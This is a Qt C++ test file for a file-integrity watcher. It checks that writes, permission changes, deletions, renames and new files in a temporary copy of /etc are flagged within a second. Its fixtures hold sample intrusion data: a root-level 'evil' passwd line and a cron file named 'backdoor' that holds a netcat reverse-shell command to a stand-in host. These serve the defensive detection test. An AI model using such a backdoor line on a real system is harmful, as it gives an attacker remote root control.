// Real-time integrity of a critical set: real writes, chmod, deletion, replacement by rename
// and a new file in a new directory are each re-checked against the baseline within a second,
// with the scanner and the watcher on threads of their own as in the engine.
#include "integrity/integrityscanner.h"
#include "integrity/integritywatcher.h"
#include "queuedrecorder.h"
#include "recordingauditsink.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>

#include <unistd.h>

using namespace Shivx;

namespace {

void writeFile(const QString &path, const QByteArray &content)
{
    QFile f(path);
    QVERIFY2(f.open(QIODevice::WriteOnly | QIODevice::Truncate), qPrintable(path));
    f.write(content);
}

// Sanitizer builds run slower (SHIVX_TIME_SCALE); the promise is one second.
constexpr int WithinMs = 1000 * SHIVX_TIME_SCALE;

} // namespace

class TstIntegrityWatcher : public QObject
{
    Q_OBJECT

    std::unique_ptr<QTemporaryDir> m_dir;
    RecordingAuditSink m_audit;
    QThread m_scanThread;
    QThread m_watchThread;
    IntegrityScanner *m_scanner = nullptr;
    IntegrityWatcher *m_watcher = nullptr;

    QString tree() const { return m_dir->path() + QStringLiteral("/etc"); }

    const IntegrityDifference *difference(const QString &path) const
    {
        static IntegrityDifference found;
        const auto last = m_scanner->lastCheck();
        if (!last)
            return nullptr;
        for (const IntegrityDifference &d : last->differences)
            if (d.path == path) {
                found = d;
                return &found;
            }
        return nullptr;
    }

    // Waits for `path`'s entry to be present (or gone) and says how long it took.
    qint64 waitFor(const QString &path, bool present)
    {
        QElapsedTimer t;
        t.start();
        while ((difference(path) != nullptr) != present && t.elapsed() < 5 * WithinMs)
            QTest::qWait(5);
        return t.elapsed();
    }

private Q_SLOTS:
    void initTestCase()
    {
        qRegisterMetaType<IntegrityResult>();
        m_dir = std::make_unique<QTemporaryDir>();
        QVERIFY(QDir().mkpath(tree() + QStringLiteral("/ssh")));
        QVERIFY(QDir().mkpath(m_dir->path() + QStringLiteral("/other")));
        writeFile(tree() + QStringLiteral("/passwd"), "root:x:0:0\n");
        writeFile(tree() + QStringLiteral("/shadow"), "root:*:1\n");
        writeFile(tree() + QStringLiteral("/ssh/sshd_config"), "PermitRootLogin no\n");
        writeFile(tree() + QStringLiteral("/hosts"), "127.0.0.1 localhost\n");
        writeFile(m_dir->path() + QStringLiteral("/other/unwatched"), "x\n");

        IntegrityConfig c;
        IntegrityPathSet critical;
        critical.name = QStringLiteral("etc");
        critical.paths = { tree() };
        critical.excludes = { QStringLiteral("*.swp") };
        critical.critical = true;
        IntegrityPathSet other;
        other.name = QStringLiteral("other");
        other.paths = { m_dir->path() + QStringLiteral("/other") };
        c.sets = { critical, other };
        c.fastIntervalMs = c.fullIntervalMs = 0;
        m_scanner
            = new IntegrityScanner(c, m_dir->path() + QStringLiteral("/data"), &m_audit, nullptr);
        m_scanner->moveToThread(&m_scanThread);
        connect(&m_scanThread, &QThread::finished, m_scanner, &QObject::deleteLater);
        m_watcher = new IntegrityWatcher(c, m_scanner);
        m_watcher->moveToThread(&m_watchThread);
        connect(&m_watchThread, &QThread::finished, m_watcher, &QObject::deleteLater);
        m_scanThread.start();
        m_watchThread.start();
        QMetaObject::invokeMethod(
            m_scanner, &IntegrityScanner::start, Qt::BlockingQueuedConnection);
        QueuedRecorder<IntegrityResult> finished(m_scanner, &IntegrityScanner::finished);
        QVERIFY(m_scanner->tryBegin());
        IntegrityScanner *s = m_scanner;
        QMetaObject::invokeMethod(
            s, [s] { s->runInit(QStringLiteral("api"), QStringLiteral("t")); },
            Qt::QueuedConnection);
        QTRY_VERIFY(!finished.isEmpty());
        QMetaObject::invokeMethod(
            m_watcher, &IntegrityWatcher::start, Qt::BlockingQueuedConnection);
        QCOMPARE(m_watcher->watchCount(), 2); // etc and etc/ssh
        ::usleep(20'000); // past the file system's timestamp tick
    }

    void cleanupTestCase()
    {
        m_watchThread.quit();
        m_watchThread.wait();
        m_scanThread.quit();
        m_scanThread.wait();
    }

    void contentWrite()
    {
        const QString p = tree() + QStringLiteral("/passwd");
        writeFile(p, "root:x:0:0\nevil:x:0:0\n");
        const qint64 ms = waitFor(p, true);
        QVERIFY2(ms <= WithinMs, qPrintable(QStringLiteral("%1 ms").arg(ms)));
        QVERIFY(difference(p)->changed & AttrContent);
        QVERIFY(difference(p)->changed & AttrSize);
        // The scanner publishes the difference before it records the audit event.
        QTRY_VERIFY(m_audit.count(QStringLiteral("integrity.realtime_difference")) >= 1);
    }

    void chmod()
    {
        const QString p = tree() + QStringLiteral("/shadow");
        QVERIFY(QFile::setPermissions(p, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadOther));
        const qint64 ms = waitFor(p, true);
        QVERIFY2(ms <= WithinMs, qPrintable(QStringLiteral("%1 ms").arg(ms)));
        QCOMPARE(attributeNames(difference(p)->changed),
            (QStringList { QStringLiteral("mode"), QStringLiteral("ctime") }));
    }

    void deleteInSubdirectory()
    {
        const QString p = tree() + QStringLiteral("/ssh/sshd_config");
        QVERIFY(QFile::remove(p));
        const qint64 ms = waitFor(p, true);
        QVERIFY2(ms <= WithinMs, qPrintable(QStringLiteral("%1 ms").arg(ms)));
        QVERIFY(difference(p)->kind == IntegrityDifference::Kind::Removed);
    }

    void replacedByRename()
    {
        const QString p = tree() + QStringLiteral("/hosts");
        writeFile(p + QStringLiteral(".new"), "127.0.0.1 localhost\n");
        QCOMPARE(::rename(QFile::encodeName(p + QStringLiteral(".new")).constData(),
                     QFile::encodeName(p).constData()),
            0);
        const qint64 ms = waitFor(p, true);
        QVERIFY2(ms <= WithinMs, qPrintable(QStringLiteral("%1 ms").arg(ms)));
        QVERIFY(difference(p)->changed & AttrInode);
        QVERIFY(!(difference(p)->changed & AttrContent));
    }

    void newFileInNewDirectory()
    {
        QVERIFY(QDir().mkpath(tree() + QStringLiteral("/cron.d")));
        QTest::qWait(50 * SHIVX_TIME_SCALE); // the new directory's watch is added on its event
        const QString p = tree() + QStringLiteral("/cron.d/backdoor");
        writeFile(p, "* * * * * root nc -e /bin/sh evil 4444\n");
        const qint64 ms = waitFor(p, true);
        QVERIFY2(ms <= WithinMs, qPrintable(QStringLiteral("%1 ms").arg(ms)));
        QVERIFY(difference(p)->kind == IntegrityDifference::Kind::Added);
    }

    void restoredContentIsNoContentChange()
    {
        const QString p = tree() + QStringLiteral("/passwd");
        QVERIFY(difference(p));
        writeFile(p, "root:x:0:0\n");
        // Content and size are back; the times and inode data still differ from the record.
        QTRY_VERIFY_WITH_TIMEOUT(
            difference(p) && !(difference(p)->changed & AttrContent), WithinMs * 2);
    }

    void excludedAndUncriticalAreIgnored()
    {
        QueuedRecorder<int> rechecked(m_watcher, &IntegrityWatcher::rechecked);
        writeFile(tree() + QStringLiteral("/.passwd.swp"), "swap\n");
        writeFile(m_dir->path() + QStringLiteral("/other/unwatched"), "changed\n");
        QTest::qWait(3 * IntegrityWatcher::GatherMs * SHIVX_TIME_SCALE);
        QVERIFY(rechecked.isEmpty());
        QVERIFY(!difference(tree() + QStringLiteral("/.passwd.swp")));
    }
};

QTEST_GUILESS_MAIN(TstIntegrityWatcher)
#include "tst_integritywatcher.moc"
